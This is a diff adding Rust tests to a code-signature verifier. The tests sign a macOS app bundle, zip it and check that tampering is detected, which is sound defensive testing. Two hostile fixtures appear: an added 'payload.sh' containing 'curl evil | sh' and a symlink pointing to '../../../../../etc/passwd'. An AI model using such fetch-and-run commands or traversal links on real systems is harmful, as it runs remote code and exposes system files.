@@ -584,3 +584,179 @@ fn disk_images_need_a_good_signature_and_a_stapled_ticket_naming_their_cdhash() 
     assert_eq!(a["signature"], "untrusted", "{a:#}");
     assert!(detail(&a).contains("ad-hoc"), "{a:#}");
 }
+
+/// `WireTuner.app` signed by the crate's bundle signer with the Developer ID fixture.
+fn signed_app(pki: &ApplePki, dir: &Path, tsa: &str) -> PathBuf {
+    let src = dir.join("src/WireTuner.app/Contents");
+    std::fs::create_dir_all(src.join("MacOS")).expect("MacOS");
+    std::fs::create_dir_all(src.join("Resources")).expect("Resources");
+    std::fs::write(
+        src.join("Info.plist"),
+        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" \"http://www.apple.com/DTDs/PropertyList-1.0.dtd\">\n<plist version=\"1.0\"><dict><key>CFBundleExecutable</key><string>WireTuner</string><key>CFBundleIdentifier</key><string>com.wiretuner.app</string><key>CFBundlePackageType</key><string>APPL</string><key>CFBundleVersion</key><string>1.4.0</string></dict></plist>\n",
+    )
+    .expect("Info.plist");
+    let exe = apple_codesign::macho_builder::MachOBuilder::new_aarch64(2)
+        .write_macho()
+        .expect("a Mach-O");
+    std::fs::write(src.join("MacOS/WireTuner"), exe).expect("exe");
+    std::fs::write(src.join("Resources/app.json"), b"{\"flutter\": true}").expect("resource");
+    let key = pki.key("devid");
+    let mut settings = SigningSettings::default();
+    settings.set_signing_key(&key, pki.cert("devid"));
+    settings.chain_certificate(pki.cert("ca"));
+    settings.set_team_id_from_signing_certificate();
+    settings.set_time_stamp_url(tsa).expect("tsa");
+    settings.set_code_signature_flags(SettingsScope::Main, CodeSignatureFlags::RUNTIME);
+    let dest = dir.join("signed/WireTuner.app");
+    apple_codesign::BundleSigner::new_from_path(dir.join("src/WireTuner.app"))
+        .expect("bundle")
+        .write_signed_bundle(&dest, &settings)
+        .expect("sign the bundle");
+    dest
+}
+
+fn exe_cdhash(app: &Path) -> Vec<u8> {
+    use apple_codesign::Blob as _;
+    let data = std::fs::read(app.join("Contents/MacOS/WireTuner")).expect("exe");
+    let file = apple_codesign::MachFile::parse(&data).expect("mach-o");
+    let m = file.iter_macho().next().expect("slice");
+    let sig = m.code_signature().expect("sig").expect("signed");
+    let cd = sig.code_directory().expect("cd").expect("cd");
+    let mut d = cd.digest_with(cd.digest_type).expect("digest");
+    d.truncate(20);
+    d
+}
+
+/// Zips `app` (folders, files and links, as `ditto -c -k --keepParent` does) into `out`.
+fn zip_app(app: &Path, out: &Path, extra_link: Option<(&str, &str)>) {
+    use std::io::Write as _;
+    let mut w = zip::ZipWriter::new(std::fs::File::create(out).expect("zip"));
+    let opts = zip::write::SimpleFileOptions::default();
+    let base = app.parent().expect("parent");
+    let mut stack = vec![app.to_owned()];
+    while let Some(dir) = stack.pop() {
+        let rel = dir
+            .strip_prefix(base)
+            .expect("rel")
+            .to_string_lossy()
+            .into_owned();
+        w.add_directory(format!("{rel}/"), opts).expect("dir");
+        let mut entries: Vec<_> = std::fs::read_dir(&dir).expect("read").flatten().collect();
+        entries.sort_by_key(std::fs::DirEntry::file_name);
+        for e in entries {
+            let p = e.path();
+            let rel = p
+                .strip_prefix(base)
+                .expect("rel")
+                .to_string_lossy()
+                .into_owned();
+            if p.is_dir() {
+                stack.push(p);
+            } else {
+                w.start_file(rel, opts).expect("file");
+                w.write_all(&std::fs::read(&p).expect("read"))
+                    .expect("write");
+            }
+        }
+    }
+    if let Some((name, target)) = extra_link {
+        w.add_symlink(name, target, opts).expect("link");
+    }
+    w.finish().expect("zip");
+}
+
+#[test]
+fn zipped_app_bundles_are_checked_file_by_file_with_their_ticket() {
+    let pki = ApplePki::new();
+    let tsa = pki.tsa();
+    let dir = tempfile::tempdir().expect("dir");
+    let app = signed_app(&pki, dir.path(), &tsa);
+    let ca = pki.path("ca.pem");
+    let check = |zip: &Path| {
+        let (_, report) = verify(
+            zip,
+            &[
+                "--ca-file",
+                ca.to_str().expect("utf-8"),
+                "--expect-team-id",
+                TEAM,
+            ],
+        );
+        signature(&report).clone()
+    };
+    let zip = dir.path().join("WireTuner-1.4.0-macos.zip");
+
+    // Signed, not stapled.
+    zip_app(&app, &zip, None);
+    let a = check(&zip);
+    assert_eq!(a["signature"], "untrusted", "{a:#}");
+    assert!(
+        detail(&a).contains("no notarization ticket is stapled"),
+        "{a:#}"
+    );
+    assert_eq!(a["apple"]["format"], "zipped app bundle");
+
+    // Stapled with a ticket naming the executable's CDHash.
+    let ticket = [b"s8ch\x01\x00\x00\x00".as_slice(), &exe_cdhash(&app)].concat();
+    std::fs::write(app.join("Contents/CodeResources"), &ticket).expect("staple");
+    zip_app(&app, &zip, None);
+    let a = check(&zip);
+    assert_eq!(a["signature"], "valid", "{a:#}");
+    assert_eq!(a["apple"]["slices"][0]["identifier"], "com.wiretuner.app");
+
+    // A sealed resource edited after signing.
+    std::fs::write(
+        app.join("Contents/Resources/app.json"),
+        b"{\"flutter\": false}",
+    )
+    .expect("edit");
+    zip_app(&app, &zip, None);
+    let a = check(&zip);
+    assert_eq!(a["signature"], "invalid", "{a:#}");
+    assert!(
+        detail(&a).contains("Resources/app.json was modified after signing"),
+        "{a:#}"
+    );
+    std::fs::write(
+        app.join("Contents/Resources/app.json"),
+        b"{\"flutter\": true}",
+    )
+    .expect("restore");
+
+    // A file added after signing.
+    std::fs::write(app.join("Contents/Resources/payload.sh"), b"curl evil | sh").expect("add");
+    zip_app(&app, &zip, None);
+    let a = check(&zip);
+    assert_eq!(a["signature"], "invalid", "{a:#}");
+    assert!(
+        detail(&a).contains("Resources/payload.sh was added after signing"),
+        "{a:#}"
+    );
+    std::fs::remove_file(app.join("Contents/Resources/payload.sh")).expect("remove");
+
+    // Info.plist edited.
+    let info = app.join("Contents/Info.plist");
+    let text = std::fs::read_to_string(&info).expect("info");
+    std::fs::write(&info, text.replace("1.4.0", "9.9.9")).expect("edit");
+    zip_app(&app, &zip, None);
+    let a = check(&zip);
+    assert_eq!(a["signature"], "invalid", "{a:#}");
+    assert!(
+        detail(&a).contains("Info.plist does not match its digest"),
+        "{a:#}"
+    );
+    std::fs::write(&info, text).expect("restore");
+
+    // A link that leaves the archive.
+    zip_app(
+        &app,
+        &zip,
+        Some((
+            "WireTuner.app/Contents/Resources/evil",
+            "../../../../../etc/passwd",
+        )),
+    );
+    let a = check(&zip);
+    assert_eq!(a["signature"], "invalid", "{a:#}");
+    assert!(detail(&a).contains("leaves the archive"), "{a:#}");
+}
